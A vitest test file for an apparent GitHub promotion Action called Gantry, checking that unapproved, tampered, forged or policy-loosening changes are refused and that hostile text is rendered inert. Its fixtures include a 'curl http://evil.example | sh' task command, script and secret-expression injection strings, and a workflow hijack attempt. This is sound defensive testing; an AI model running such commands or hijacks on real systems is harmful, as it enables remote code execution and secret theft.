import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { hrefs, liveMentions, renderGfm } from '../support/gfm.js'
import type { ActionRun } from './action-runner.js'
import {
  BOT,
  GANTRY_YAML,
  HOSTILE,
  OWNER,
  PromotionHub,
  type PromotionRepo,
  ledgerFields,
  task,
  tokenOf,
} from './promotion-harness.js'
import { events, produce } from './event-helpers.js'

// Who may approve, what policy applies and what content may be applied: the built action against the local
// GitHub. qa needs one approval from quinn, rita or reed (reed may only read the repository).
let hub: PromotionHub
beforeAll(async () => {
  hub = await PromotionHub.start()
})
afterAll(async () => {
  await hub?.stop()
})

/** Nothing of `pkg` reached qa, and its one promotion there is still open and waiting for approval. */
async function stillWaiting(repo: PromotionRepo, pkg: string, number: number): Promise<void> {
  expect(await repo.ledger('qa', pkg)).toBeUndefined()
  expect(repo.promotions('qa', pkg).map((p) => p.number)).toEqual([number])
  expect(repo.issue(number).state).toBe('open')
  expect(repo.issue(number).labels).toEqual(['gantry:awaiting-approval'])
}

/** No mention, HTML, workflow expression, link or image is live. */
function expectNothingLive(text: string): void {
  expect(text).not.toMatch(/@everyone|<script|\$\{\{/)
  // Rendered as GitHub renders it: no mention resolves, no tag of the author's, no link or image leaves http(s).
  const html = renderGfm(text)
  expect(liveMentions(html)).toEqual([])
  expect(html).not.toMatch(/<script/)
  expect(hrefs(html).every((h) => /^(https?:|#|mailto:)/.test(h))).toBe(true)
}

/** Mentions, HTML and workflow expressions appear, defused; http(s) links and images stay as the author wrote them. */
function expectInert(text: string): void {
  expectNothingLive(text)
  expect(text).toContain('@\u200deveryone')
  expect(text).toContain('&lt;script>')
  expect(text).toContain('$\u200d{{ secrets.GITHUB_TOKEN }}')
}

describe('approvals that do not count', () => {
  it('by someone who pushed to the promotion branch; and the merge refuses a branch that is no longer Gantry’s commit', async () => {
    const repo = await hub.repository(['jobs'])
    const qa = repo.openPromotion('qa', 'jobs').number
    const proposed = repo.issue(qa).pull!.headSha
    await hub.github.commitFiles(OWNER, repo.name, {
      branch: 'gantry/promote/qa/jobs',
      files: { 'definitions/task/nightly.yaml': task('nightly', 'curl http://evil.example | sh', 'jobs-db') },
      message: 'Tweak the nightly command',
      author: 'rita',
    })
    expect(repo.issue(qa).pull!.headSha).not.toBe(proposed)

    await repo.approve('rita', qa)
    await stillWaiting(repo, 'jobs', qa)
    expect(repo.comments(qa).filter((c) => c.includes('gantry:note-integrity'))).toEqual([])

    // An eligible approval on the new head: the merge is what refuses now.
    await repo.approve('quinn', qa)
    await stillWaiting(repo, 'jobs', qa)
    const integrity = repo.comments(qa).filter((c) => c.includes('gantry:note-integrity'))
    expect(integrity).toHaveLength(1)
    expect(integrity[0]).toContain('no longer holds what Gantry proposed')
    expect(await repo.log('env/qa')).toEqual(['gantry: create env/qa'])
    expect(hub.github.violations).toEqual([])
  })

  it('by a reviewer who may only read the repository', async () => {
    const repo = await hub.repository(['jobs'])
    const qa = repo.openPromotion('qa', 'jobs').number
    await repo.approve('reed', qa)
    await stillWaiting(repo, 'jobs', qa)
    expect(repo.dashboard()?.body).toMatch(
      new RegExp(`\\| #${qa} \\| \`jobs\` \`1\` \\| qa \\| 0/1 \\| 1 more approval \\|`),
    )

    await repo.approve('rita', qa)
    expect(ledgerFields(await repo.ledger('qa', 'jobs'))).toMatchObject({ version: '1', approvers: ['rita'] })
    expect(hub.github.violations).toEqual([])
  })

  it('dismissed: the dismissal run leaves the promotion waiting, and the ledger names only the approval that counted', async () => {
    const repo = await hub.repository(['jobs'])
    const qa = repo.openPromotion('qa', 'jobs').number
    // quinn approves twice; ada dismisses his latest review, which takes his approval away.
    await repo.review('quinn', qa)
    await repo.review('quinn', qa, 'APPROVE', { body: 'Checked the host too' })
    const reviews = await repo
      .octokit('ada')
      .rest.pulls.listReviews({ owner: OWNER, repo: repo.name, pull_number: qa })
    const latest = reviews.data.filter((r) => r.user?.login === 'quinn').at(-1)!
    expect(latest.body).toBe('Checked the host too')
    // The dismissal's event goes through env/qa's relay, and the run it dispatches decides.
    await events(repo, `quinn's review on #${qa} dismissed by ada`, () =>
      repo.octokit('ada').rest.pulls.dismissReview({
        owner: OWNER,
        repo: repo.name,
        pull_number: qa,
        review_id: latest.id,
        message: 'Approved the wrong promotion',
      }),
    )
    await stillWaiting(repo, 'jobs', qa)

    await repo.approve('rita', qa)
    expect(repo.issue(qa).pull?.merged).toBe(true)
    expect(ledgerFields(await repo.ledger('qa', 'jobs')).approvers).toEqual(['rita'])
    expect(hub.github.violations).toEqual([])
  })

  it('superseded by the same reviewer’s later request for changes: REJECTED, closed, the reason kept and shown inert', async () => {
    const repo = await hub.repository(['jobs'])
    const qa = repo.openPromotion('qa', 'jobs').number
    // The approval's own run is still queued when quinn changes his mind.
    await repo.review('quinn', qa)
    await repo.review('quinn', qa, 'REQUEST_CHANGES', { body: `Wrong host ${HOSTILE}` })
    await repo.reviewRun('quinn', qa, 'changes_requested')

    const rejected = repo.issue(qa)
    expect(rejected.state).toBe('closed')
    expect(rejected.pull?.merged).toBe(false)
    expect(rejected.labels).toEqual(['gantry:rejected'])
    expect(repo.marker(qa)).toMatchObject({ status: 'REJECTED', reason: `Wrong host ${HOSTILE}` })
    expectNothingLive(rejected.body ?? '')
    const comments = repo.comments(qa).filter((c) => c.startsWith('Rejected by `quinn`'))
    expect(comments).toHaveLength(1)
    expectInert(comments[0]!)
    expect(await repo.ledger('qa', 'jobs')).toBeUndefined()
    const dashboard = repo.dashboard()?.body ?? ''
    expect(dashboard).toContain(`| #${qa} | \`jobs\` \`1\` | qa | REJECTED | Wrong host `)
    expectInert(dashboard)
    expect(hub.github.violations).toEqual([])
  })

  it('reviews over several pages: each reviewer’s latest decisive review counts, wherever it is', async () => {
    const repo = await hub.repository(['jobs', 'reports'])
    const jobs = repo.openPromotion('qa', 'jobs').number
    const reports = repo.openPromotion('qa', 'reports').number
    // jobs: quinn's approval comes after 120 comments, on the second page.
    // reports: quinn approves first, then 120 comments, then quinn asks for changes on the second page.
    await repo.review('quinn', reports)
    for (let i = 0; i < 120; i++) {
      await repo.review('olga', jobs, 'COMMENT', { body: `note ${i}` })
      await repo.review('olga', reports, 'COMMENT', { body: `note ${i}` })
    }
    await repo.review('quinn', jobs)
    await repo.review('quinn', reports, 'REQUEST_CHANGES', { body: 'The report host is wrong' })
    expect(repo.state().reviews.filter((r) => r.pullNumber === jobs)).toHaveLength(121)

    await repo.reviewRun('quinn', jobs)
    expect(ledgerFields(await repo.ledger('qa', 'jobs'))).toMatchObject({
      version: '1',
      approvers: ['quinn'],
    })
    await repo.reviewRun('quinn', reports, 'changes_requested')
    expect(repo.issue(reports).state).toBe('closed')
    expect(repo.marker(reports)).toMatchObject({ status: 'REJECTED', reason: 'The report host is wrong' })
    expect(await repo.ledger('qa', 'reports')).toBeUndefined()
    expect(hub.github.violations).toEqual([])
  })
})

describe('policy, content and the merge', () => {
  it('the head moves between the approval check and the merge: GitHub refuses the merge (409), nothing is applied', async () => {
    const repo = await hub.repository(['jobs'])
    const qa = repo.openPromotion('qa', 'jobs').number
    await repo.review('quinn', qa)
    // The run checks the approval and the commit, then is held up (a rate limit) on the merge; rita pushes then.
    const pause = hub.github.injectFault({
      kind: 'secondary-rate-limit',
      route: 'pulls/merge',
      login: BOT,
      times: 1,
      retryAfterSeconds: 5,
    })
    const running = repo.reviewRun('quinn', qa)
    await vi.waitFor(() => expect(pause.hits).toBe(1), { timeout: 600_000, interval: 10 })
    await hub.github.commitFiles(OWNER, repo.name, {
      branch: 'gantry/promote/qa/jobs',
      files: { 'notes.txt': 'late change\n' },
      message: 'Late change',
      author: 'rita',
    })
    await running

    const merges = hub.github.requests.filter(
      (r) => r.path === `/api/v3/repos/${OWNER}/${repo.name}/pulls/${qa}/merge`,
    )
    expect(merges.map((r) => r.status)).toEqual([403, 409])
    await stillWaiting(repo, 'jobs', qa)
    expect(await repo.log('env/qa')).toEqual(['gantry: create env/qa'])
    const notes = repo.comments(qa).filter((c) => c.includes('gantry:note-merge'))
    expect(notes).toHaveLength(1)
    expect(notes[0]).toContain('the head moved after the approvals were checked')
    expect(hub.github.violations).toEqual([])
  })

  it('policy changed inside a pull request is ignored until it is merged into main', async () => {
    const repo = await hub.repository(['jobs'])
    const qa = repo.openPromotion('qa', 'jobs').number
    const loose = GANTRY_YAML.replace('approvals: 1\n    reviewers: [quinn, rita, reed]', 'approvals: 0')
    expect(loose).not.toBe(GANTRY_YAML)
    // olga's pull request also turns its own validation workflow into a reconcile: GitHub reads pull_request
    // workflows from the merge ref, so the run of the opened event is hers, on a checkout of the loose policy.
    const validate = '.github/workflows/pull-request.yml'
    const original = (await repo.file('main', validate)) ?? ''
    const reconciling = original.replace(/^(\s+)token: (.*)$/m, '$1token: $2\n$1command: reconcile')
    expect(reconciling).not.toBe(original)
    // With the App's key in the gantry environment (the examples' setup), her job names that environment to
    // reach it; without the key, the workflow's own token gives her run only what she may do herself.
    const keyInEnvironment = !repo.runner.options.secrets?.GANTRY_APP_PRIVATE_KEY
    const hijacked = keyInEnvironment
      ? reconciling.replace('    runs-on: ubuntu-latest\n', '    runs-on: ubuntu-latest\n    environment: gantry\n')
      : reconciling
    expect(hijacked).not.toBe(original)
    await hub.github.commitFiles(OWNER, repo.name, {
      branch: 'loosen-qa',
      from: 'main',
      files: { 'gantry.yaml': loose, [validate]: hijacked },
      message: 'qa needs no approval',
      author: 'olga',
    })
    const [policy, opened] = await produce(repo, () =>
      hub.github.openPullRequestAs('olga', OWNER, repo.name, { title: 'Loosen qa', head: 'loosen-qa', base: 'main' }),
    )
    const job = (await repo.runner.drive(opened)).flatMap((r) => r.jobs).find((j) => j.id === 'validate')
    if (repo.runner.options.secrets?.GANTRY_APP_PRIVATE_KEY) {
      // The App key as a repository secret: her run gets the App's token, and Gantry reads the policy from main.
      expect(job?.gantry?.code, job?.gantry?.stdout).toBe(0)
      expect(job?.gantry?.stdout).toContain('gantry reconcile on pull_request')
    } else {
      // The key in an environment limited to main: her job is refused the environment, and runs nothing.
      expect(job?.result).toBe('failure')
      expect(job?.reason).toMatch(/^Branch "refs\/pull\/\d+\/merge" is not allowed to deploy to gantry/)
    }
    await stillWaiting(repo, 'jobs', qa)
    // Then an edit of the promotion (through env/qa's relay) and a cron tick: the promotion still waits.
    await events(repo, `#${qa} edited by alice`, () =>
      repo.octokit('alice').rest.pulls.update({ owner: OWNER, repo: repo.name, pull_number: qa, title: 'Promote jobs@1 to qa (checked)' }),
    )
    await repo.reconcile()
    await stillWaiting(repo, 'jobs', qa)
    // olga puts the validation workflow back; its run validates the loose policy.
    const validated = await events(repo, 'validation workflow restored', () =>
      hub.github.commitFiles(OWNER, repo.name, { branch: 'loosen-qa', files: { [validate]: original }, message: 'Restore validation', author: 'olga' }),
    )
    expect(validated.summary).toContain('Gantry: no errors')
    await stillWaiting(repo, 'jobs', qa)

    // Merged, the policy is main's: the next scheduled run applies without an approval.
    await hub.github.mergePullRequestAs('quinn', OWNER, repo.name, policy.number)
    await repo.reconcile()
    expect(repo.issue(qa).pull?.merged).toBe(true)
    expect(ledgerFields(await repo.ledger('qa', 'jobs'))).toMatchObject({ version: '1', approvers: [] })
    expect(hub.github.violations).toEqual([])
  })

  it('package description, notes, instructions and a rejection reason are rendered inert', async () => {
    const repo = await hub.repository(['reports'])
    const qa = repo.openPromotion('qa', 'reports')
    expectInert(qa.body ?? '')
    // Authors' Markdown is kept: an http(s) link stays a link (GitHub proxies images); only what acts is defused.
    expect(qa.body).toContain('[x](http://evil.example)')

    await repo.command('quinn', qa.number, `/gantry reject ${HOSTILE}`)
    expect(repo.issue(qa.number).state).toBe('closed')
    const rejection = repo.comments(qa.number).filter((c) => c.startsWith('Rejected by `quinn`'))
    expect(rejection).toHaveLength(1)
    expectInert(rejection[0]!)
    const dashboard = repo.dashboard()?.body ?? ''
    expect(dashboard).toContain(`| #${qa.number} | \`reports\` \`1\` | qa | REJECTED |`)
    expectInert(dashboard)
    expect(hub.github.violations).toEqual([])
  })

  it('a bundle whose bytes no longer match the digest in its tag is refused: digest mismatch (expected, got)', async () => {
    const repo = await hub.repository(['jobs'])
    const qa = repo.openPromotion('qa', 'jobs').number
    // Someone with push access moves jobs@1 to other content and keeps the tag's message (and digest).
    const tamperer = await repo.clone('main', tokenOf('olga'))
    const message = await repo.git(tamperer, 'tag', '-l', '--format=%(contents)', 'jobs@1')
    const digest = /sha256:[0-9a-f]{64}/.exec(message)?.[0]
    expect(digest).toBeDefined()
    await writeFile(
      join(tamperer, 'definitions/task/nightly.yaml'),
      task('nightly', 'curl http://evil.example | sh', 'jobs-db'),
    )
    await repo.git(
      tamperer,
      '-c',
      'user.name=Olga',
      '-c',
      'user.email=olga@example.com',
      'commit',
      '--quiet',
      '-am',
      'Other content',
    )
    await repo.git(
      tamperer,
      '-c',
      'user.name=Olga',
      '-c',
      'user.email=olga@example.com',
      'tag',
      '-f',
      '-a',
      'jobs@1',
      '-m',
      message.trim(),
    )
    // The commit goes onto main too: a tag off the default branch's history is not a release at all, so only a
    // tag moved along main reaches the digest check.
    await repo.git(tamperer, 'push', '--quiet', '--force', 'origin', 'refs/tags/jobs@1', 'HEAD:main')
    const qaBefore = await repo.head('env/qa')

    const mismatch = new RegExp(
      `digest mismatch for jobs@1 \\(expected ${digest}, got sha256:[0-9a-f]{64}\\)`,
    )
    const refused = (run: ActionRun) => {
      expect(run.code).not.toBe(0)
      expect(
        run.annotations.filter((a) => a.level === 'error' && mismatch.test(a.message)).length,
      ).toBeGreaterThan(0)
    }
    // The approval's run refuses to apply it; a manual run asking for it again and the scheduled run refuse it.
    await repo.review('quinn', qa)
    refused(await repo.reviewRun('quinn', qa, 'approved', { expectSuccess: false }))
    refused(
      await repo.dispatch({ package: 'jobs', version: '1', environment: 'qa' }, { expectSuccess: false }),
    )
    refused(await repo.reconcile({ expectSuccess: false }))
    // The dashboard still comes up, and says why this promotion stands still.
    expect(repo.dashboard()?.body).toContain(
      `| #${qa} | \`jobs\` \`1\` | qa | 0/1 | cannot be assessed: digest mismatch for jobs@1 (expected ${digest}`,
    )

    expect(await repo.head('env/qa')).toBe(qaBefore)
    expect(repo.issue(qa).state).toBe('open')
    expect(repo.promotions('qa', 'jobs')).toHaveLength(1)
    expect(hub.github.violations).toEqual([])
  })

  it('a pull request posing as a promotion into another environment is not applied, and gets the lock check', async () => {
    const repo = await hub.repository(['jobs'])
    const dev = repo.promotions('dev', 'jobs')[0]!
    // olga copies what Gantry applied to dev onto qa, and opens it with the dev promotion's body (no approvals).
    const forger = await repo.clone('main', tokenOf('olga'))
    await repo.git(forger, 'checkout', '--quiet', '-b', 'gantry/promote/dev/jobs-again', 'origin/env/qa')
    await repo.git(
      forger,
      'checkout',
      'origin/gantry/promote/dev/jobs',
      '--',
      'definitions',
      '.gantry/installed/jobs.yaml',
    )
    await repo.git(
      forger,
      '-c',
      'user.name=Olga',
      '-c',
      'user.email=olga@example.com',
      'commit',
      '--quiet',
      '-m',
      'Promote jobs@1 to qa',
    )
    await repo.git(forger, 'push', '--quiet', 'origin', 'gantry/promote/dev/jobs-again')
    const qaBefore = await repo.head('env/qa')
    // Opened, it goes through env/qa's relay; the run it dispatches gives it the lock check.
    const [forged, opened] = await produce(repo, () =>
      hub.github.openPullRequestAs('olga', OWNER, repo.name, {
        title: 'Promote jobs@1 to qa',
        head: 'gantry/promote/dev/jobs-again',
        base: 'env/qa',
        body: dev.body ?? '',
      }),
    )
    const run = await repo.drive(opened, `#${forged.number} opened by olga`, false)
    expect(repo.issue(forged.number).state).toBe('open')
    expect(await repo.head('env/qa')).toBe(qaBefore)
    expect(run.code).not.toBe(0)
    expect(run.annotations).toContainEqual(
      expect.objectContaining({ level: 'error', file: '.gantry/installed/jobs.yaml' }),
    )
    expect(hub.github.violations).toEqual([])
  })
})
